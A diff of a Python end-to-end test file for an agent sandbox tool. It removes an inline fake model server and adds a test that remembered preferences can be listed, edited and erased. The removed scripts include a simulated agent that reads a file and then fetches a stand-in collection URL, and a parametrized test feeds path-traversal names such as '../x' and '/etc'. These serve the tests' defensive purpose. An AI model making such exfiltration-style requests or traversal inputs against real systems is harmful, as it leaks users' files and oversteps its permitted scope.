@@ -2,89 +2,16 @@
 
 import json
 import re
-from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from threading import Thread
-from typing import Any
 
 import pytest
 
+from headrace.core.errors import InvalidRequest
 from headrace.sandbox import try_level
-from tests.server import Installation, Running, pool, priced
+from tests.e2e.conftest import told
+from tests.server import Installation, Running
 
 pytestmark = pytest.mark.skipif(try_level().rung == 0, reason="no command can be confined on this machine")
-
-SCRIPTS: dict[str, list[list[tuple[str, dict[str, str]]] | str]] = {
-    "coder": [
-        [("list_files", {}), ("read_file", {"path": "add.py"})],
-        [("edit_file", {"path": "add.py", "old": "a - b", "new": "a + b"})],
-        [("run_command", {"command": "python3 -c 'import add; assert add.add(2, 3) == 5; print(\"passed\")'"})],
-        "The sign was wrong; the check passes now.",
-    ],
-    "visitor": [[("read_file", {"path": "add.py"})], [("fetch", {"url": "https://collect.invalid/?a=1"})], "I could not read it."],
-    "talker": ["I have written the file."],
-    "spender": [[("list_files", {})], [("list_files", {})], [("list_files", {})], "Done."],
-}
-
-
-class Vendor(BaseHTTPRequestHandler):
-    """Answers the next step of the script that the model's name says, by the conversation alone."""
-
-    def do_POST(self) -> None:
-        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
-        script = SCRIPTS[asked["model"]]
-        turn = sum(message["role"] == "assistant" for message in asked["messages"])
-        step = script[turn]
-        message: dict[str, Any] = {"role": "assistant", "content": step if isinstance(step, str) else None}
-        if not isinstance(step, str):
-            message["tool_calls"] = [
-                {"id": f"c{turn}{at}", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}
-                for at, (name, arguments) in enumerate(step)
-            ]
-        answer = {
-            "id": "x",
-            "object": "chat.completion",
-            "created": 1,
-            "model": asked["model"],
-            "choices": [{"index": 0, "message": message, "finish_reason": "stop" if isinstance(step, str) else "tool_calls"}],
-            "usage": {"prompt_tokens": 100, "completion_tokens": 10, "total_tokens": 110},
-        }
-        body = json.dumps(answer).encode()
-        self.send_response(200)
-        self.send_header("content-type", "application/json")
-        self.send_header("content-length", str(len(body)))
-        self.end_headers()
-        self.wfile.write(body)
-
-    def log_message(self, format: str, *args: object) -> None:
-        pass
-
-
-@pytest.fixture(scope="module")
-def vendor() -> Iterator[str]:
-    with ThreadingHTTPServer(("127.0.0.1", 0), Vendor) as server:
-        thread = Thread(target=server.serve_forever, daemon=True)
-        thread.start()
-        yield f"http://127.0.0.1:{server.server_port}/v1"
-        server.shutdown()
-
-
-@pytest.fixture(scope="module")
-def place(tmp_path_factory: pytest.TempPathFactory, vendor: str) -> Installation:
-    return Installation(tmp_path_factory.mktemp("house"), pool("vendor", vendor, *SCRIPTS) + priced(*SCRIPTS))
-
-
-@pytest.fixture(scope="module")
-def server(place: Installation) -> Iterator[Running]:
-    with place.serving() as running:
-        yield running
-
-
-@pytest.fixture
-def project(tmp_path: Path) -> Path:
-    (tmp_path / "add.py").write_text("def add(a, b):\n    return a - b\n")
-    return tmp_path
 
 
 def run(place: Installation, server: Running, project: Path, model: str, task: str, *more: str) -> tuple[str, str]:
@@ -143,6 +70,24 @@ def test_an_agents_tokens_are_metered_like_anyones(place, server, project):
     run(place, server, project, "coder", "Fix add.py and run a check")
     rows = [row for row in place.usage("model") if row["model"] == "coder"]
     assert rows[0]["requests"] % 4 == 0
+
+
+def test_what_is_remembered_is_seen_corrected_and_erased(place, server, project):
+    run(place, server, project, "rememberer", "Remember that I prefer tabs.")
+    (one,) = json.loads(place.run("memory", "list", "--folder", str(project), "--format", "json").stdout)
+    assert (one["text"], one["how"]) == ("I prefer tabs", "said")
+    shown = told(place, "memory", "show", one["id"])
+    for words in ("I prefer tabs", "you said it", str(project), "run_"):
+        assert words in shown
+    said, _ = run(place, server, project, "recaller", "What do I prefer, tabs or spaces?")
+    assert "I prefer tabs" in said
+    told(place, "memory", "edit", one["id"], "I prefer spaces")
+    assert "you edited it" in told(place, "memory", "show", one["id"])
+    assert "Remembered as mem_" in told(place, "memory", "add", "Nobody works on Sundays", "--folder", str(project))
+    assert "Nobody works on Sundays" in told(place, "memory", "list")
+    told(place, "memory", "forget", one["id"])
+    with pytest.raises(InvalidRequest, match="no memory"):
+        told(place, "memory", "show", one["id"])
 
 
 @pytest.mark.parametrize("name", ["run_0", "../x", "/etc"])
